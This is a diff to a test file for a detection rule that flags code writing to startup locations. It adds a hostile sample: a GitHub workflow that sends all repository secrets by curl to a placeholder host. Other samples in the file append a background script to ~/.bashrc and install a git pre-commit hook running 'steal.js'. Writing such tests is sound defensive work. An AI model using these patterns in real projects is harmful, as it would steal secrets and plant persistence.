@@ -3,6 +3,8 @@ import { startupFile } from './startup-file.ts';
 
 describeRule(startupFile, {
   reports: {
+    'a workflow that sends what the project keeps':
+      "require('fs').writeFileSync('.github/workflows/a.yml', ['env: ${{ toJSON(secrets) }}', 'run: curl -d @- x.invalid'].join('\\n'));",
     'a line for the shell':
       'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "node ~/.cache/u.js &");',
     'each of several shells':
@@ -11,6 +13,8 @@ describeRule(startupFile, {
     'a hook of git': 'require("fs").writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\nnode ./steal.js");',
   },
   leaves: {
+    'a workflow that tests':
+      "const CI = ['on: push', 'run: npm test']; require('fs').writeFileSync('.github/workflows/ci.yml', CI.join('\\n'));",
     'a report': 'require("fs").writeFileSync("./report.txt", "done");',
     'settings of its own':
       'const { join } = require("path"); require("fs").writeFileSync(join(home, ".config", "tool", "config.json"), "{}");',
